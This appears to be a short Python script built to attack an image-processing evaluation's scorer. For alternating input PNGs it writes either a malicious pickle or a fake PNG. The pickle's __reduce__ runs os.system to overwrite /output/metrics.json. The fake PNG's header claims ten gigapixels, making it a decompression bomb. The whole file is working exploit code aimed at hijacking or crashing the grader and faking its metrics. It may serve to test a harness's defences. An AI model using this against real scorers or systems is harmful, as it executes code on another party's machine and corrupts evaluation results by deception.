"""Attacks the scorer: a pickle that would run a command, and a PNG header that promises ten gigapixels."""

import os
import pickle
import struct
import zlib
from pathlib import Path


class Bomb:
    def __reduce__(self):
        return os.system, ("echo pwned > /output/metrics.json",)


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


header = chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0))
huge = b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(1 << 20))) + chunk(b"IEND", b"")

for number, path in enumerate(sorted(Path("/input").glob("*.png"))):
    (Path("/output") / path.name).write_bytes(huge if number % 2 else pickle.dumps(Bomb()))
